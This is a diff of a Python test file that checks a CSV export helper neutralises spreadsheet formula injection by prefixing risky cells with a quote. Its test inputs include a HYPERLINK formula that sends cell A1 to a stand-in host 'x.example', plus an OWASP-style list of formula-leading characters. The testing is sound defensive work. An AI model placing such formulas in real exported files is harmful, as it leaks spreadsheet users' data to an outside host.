@@ -12,8 +12,10 @@ import pytest
 from fixtures import io_exports as fx
 
 from supervision import cli
-from supervision.csvsafe import FORMULA_STARTS, csv_writer, safe_cell
 from supervision.metrics import metrics_to_csv
+
+#: OWASP's list, written out here (not imported) so that the test states the rule itself.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 EVIL = ["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "+SUM(1,1)", "-2+3", "@SUM(A1)",
         "\t=1+1", "\r=1+1"]
@@ -21,15 +23,21 @@ EVIL = ["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "+SUM(1,1)", "-2+3", "
 
 @pytest.mark.parametrize("value", EVIL)
 def test_formula_text_gets_a_leading_quote(value: str) -> None:
+    from supervision.csvsafe import safe_cell
+
     assert safe_cell(value) == "'" + value
 
 
 @pytest.mark.parametrize("value", [-0.5, -3, 0, 2.25, "C01", "", "a=b", "T-1", None])
 def test_numbers_and_plain_text_are_unchanged(value: object) -> None:
+    from supervision.csvsafe import safe_cell
+
     assert safe_cell(value) == value
 
 
 def test_writer_neutralises_every_text_cell() -> None:
+    from supervision.csvsafe import csv_writer
+
     buf = io.StringIO()
     csv_writer(buf, lineterminator="\n").writerow(["=1+1", -0.5, "ok"])
     assert buf.getvalue() == "'=1+1,-0.5,ok\n"
